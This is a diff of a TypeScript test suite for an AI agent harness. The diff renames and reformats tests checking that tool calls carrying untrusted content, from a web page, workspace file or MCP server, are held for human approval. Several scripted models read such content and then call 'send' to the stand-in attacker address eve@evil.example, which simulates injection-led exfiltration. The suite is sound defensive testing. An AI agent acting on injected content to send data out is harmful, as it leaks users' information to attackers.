@@ -32,7 +32,7 @@ function harnessWith(model: ScriptedModel, provenance: ProvenanceOptions, beside
 const FLOW = { argument: 'to', source: { kind: 'web', name: 'https://evil.example/a' }, callId: 'call_1' }
 
 describe('untrusted content in the arguments of a call', () => {
-  test('asks a person, who sees its path; the answer is stored', async () => {
+  test('PV-01 a person is asked, who sees its path; the answer is stored', async () => {
     const sent: unknown[] = []
     const model = new ScriptedModel().calls('fetch_page').calls('send', { to: 'eve@evil.example' }).says('Done.')
     await using harness = harnessWith(model, {}, { tools: [fetchPage, sending(sent)] })
@@ -51,7 +51,7 @@ describe('untrusted content in the arguments of a call', () => {
     expect(sent).toEqual([{ to: 'eve@evil.example' }])
   })
 
-  test('rejects the call if nobody is to be asked, and the model learns the reason', async () => {
+  test('PV-02 the call is rejected if nobody is to be asked, and the model learns the reason', async () => {
     const sent: unknown[] = []
     const model = new ScriptedModel()
       .calls('fetch_page')
@@ -95,7 +95,7 @@ describe('untrusted content in the arguments of a call', () => {
     expect((await harness.run('Read the page.')).stopReason).toBe(isHeld ? 'approval_required' : 'end_turn')
   })
 
-  test('in mode `taint` every call after the first of it is held, whatever its arguments; earlier ones are not', async () => {
+  test('PV-03 in mode `taint` every call after the first of it is held, whatever its arguments; earlier ones are not', async () => {
     const model = new ScriptedModel()
       .calls('send', { to: 'ann@example.com' })
       .calls('fetch_page')
@@ -107,7 +107,7 @@ describe('untrusted content in the arguments of a call', () => {
     expect(pending).toMatchObject([{ callId: 'call_3', provenance: [{ ...FLOW, callId: 'call_2', match: 'taint' }] }])
   })
 
-  test('in the mode `taint` a call without arguments is held as well', async () => {
+  test('PV-04 in the mode `taint` a call without arguments is held as well', async () => {
     const script = (): ScriptedModel => new ScriptedModel().calls('fetch_page').calls('send', {}).says('Done.')
     const denied = script()
     const ruled = { mode: 'taint', allow: [{ from: ['web'], tools: ['send'] }] } as const
@@ -137,53 +137,66 @@ describe('untrusted content in the arguments of a call', () => {
     ['a folder beside it', ['workspace:ROOT/in'], false],
     ['all of the workspace', ['workspace'], true],
     ['the defaults, which trust files', ['web', 'server', 'agent'], false],
-  ])('of the workspace, untrusted being %s', async (_name, untrusted, isHeld) => {
-    const root = await folderWith({ 'inbox/a.txt': LETTER })
-    const model = new ScriptedModel()
-      .calls('read', { path: 'inbox/a.txt' })
-      .calls('send', { to: 'eve@evil.example' })
-      .says('Done.')
-    const provenance = { untrusted: untrusted.map((each) => each.replace('ROOT', root)) }
-    await using harness = harnessWith(model, provenance, { root, tools: [...fileTools(), sending()] })
+  ])(
+    'PV-05 content of the workspace is held only if it is configured as untrusted (%s)',
+    async (_name, untrusted, isHeld) => {
+      const root = await folderWith({ 'inbox/a.txt': LETTER })
+      const model = new ScriptedModel()
+        .calls('read', { path: 'inbox/a.txt' })
+        .calls('send', { to: 'eve@evil.example' })
+        .says('Done.')
+      const provenance = { untrusted: untrusted.map((each) => each.replace('ROOT', root)) }
+      await using harness = harnessWith(model, provenance, { root, tools: [...fileTools(), sending()] })
 
-    const { stopReason, pending } = await harness.run('Read the letter.')
+      const { stopReason, pending } = await harness.run('Read the letter.')
 
-    expect(stopReason).toBe(isHeld ? 'approval_required' : 'end_turn')
-    expect(pending.flatMap((item) => item.provenance ?? [])).toEqual(
-      isHeld
-        ? [
-            {
-              argument: 'to',
-              source: { kind: 'workspace', name: `${root}/inbox/a.txt` },
-              callId: 'call_1',
-              match: 'exact',
-            },
-          ]
-        : [],
-    )
-  })
+      expect(stopReason).toBe(isHeld ? 'approval_required' : 'end_turn')
+      expect(pending.flatMap((item) => item.provenance ?? [])).toEqual(
+        isHeld
+          ? [
+              {
+                argument: 'to',
+                source: { kind: 'workspace', name: `${root}/inbox/a.txt` },
+                callId: 'call_1',
+                match: 'exact',
+              },
+            ]
+          : [],
+      )
+    },
+  )
 
   test.each([
     ['server:odd', true],
     ['server:other', false],
     ['server', true],
-  ])('of a server, untrusted being `%s`', async (untrusted, isHeld) => {
-    const server = oddServer(
-      `{ 'tools/list': () => ({ tools: [tool('mail')] }), 'tools/call': () => text(${JSON.stringify(LETTER)}) }`,
-    )
-    const model = new ScriptedModel().calls('mail').calls('send', { to: 'eve@evil.example' }).says('Done.')
-    await using harness = harnessWith(model, { untrusted: [untrusted] }, { tools: [sending()], mcpServers: [server] })
+  ])(
+    'PV-06 content of a server is held if servers, or this server, are untrusted (`%s`)',
+    async (untrusted, isHeld) => {
+      const server = oddServer(
+        `{ 'tools/list': () => ({ tools: [tool('mail')] }), 'tools/call': () => text(${JSON.stringify(LETTER)}) }`,
+      )
+      const model = new ScriptedModel().calls('mail').calls('send', { to: 'eve@evil.example' }).says('Done.')
+      await using harness = harnessWith(model, { untrusted: [untrusted] }, { tools: [sending()], mcpServers: [server] })
 
-    const { pending } = await harness.run('Read the mail.')
+      const { pending } = await harness.run('Read the mail.')
 
-    expect(pending.flatMap((item) => item.provenance ?? [])).toEqual(
-      isHeld
-        ? [{ argument: 'to', source: { kind: 'server', name: 'odd', tool: 'mail' }, callId: 'call_1', match: 'exact' }]
-        : [],
-    )
-  })
+      expect(pending.flatMap((item) => item.provenance ?? [])).toEqual(
+        isHeld
+          ? [
+              {
+                argument: 'to',
+                source: { kind: 'server', name: 'odd', tool: 'mail' },
+                callId: 'call_1',
+                match: 'exact',
+              },
+            ]
+          : [],
+      )
+    },
+  )
 
-  test('is recognized in a run that continues the conversation', async () => {
+  test('PV-07 it is recognized in a run that continues the conversation', async () => {
     const model = new ScriptedModel().calls('fetch_page').says('Read.').calls('send', { to: 'eve@evil.example' })
     await using harness = harnessWith(model, {})
     const first = await harness.run('Read the page.')
@@ -194,7 +207,7 @@ describe('untrusted content in the arguments of a call', () => {
     expect(second.pending).toMatchObject([{ provenance: [{ ...FLOW, match: 'exact' }] }])
   })
 
-  test('is tracked in child runs too, and their answers are attributed to them', async () => {
+  test('PV-08 it is tracked in child runs too, and their answers are attributed to them', async () => {
     const start = tool('start', async (_args, { spawn }) => {
       return (await spawn({ prompt: 'Below.', tools: [sending()] }).result).text
     })
@@ -210,7 +223,7 @@ describe('untrusted content in the arguments of a call', () => {
     expect(paused.pending).toMatchObject([{ toolName: 'send', provenance: [{ ...FLOW, match: 'exact' }] }])
   })
 
-  test('reading tools of the workspace are not held, and invalid options are rejected at once', async () => {
+  test('PV-09 reading tools of the workspace are not held, and invalid options are rejected at once', async () => {
     const root = await folderWith({ 'a.txt': LETTER })
     const model = new ScriptedModel().calls('fetch_page').calls('search', { query: 'eve@evil.example' }).says('Done.')
     await using harness = harnessWith(model, {}, { root, tools: [fetchPage, ...fileTools()] })
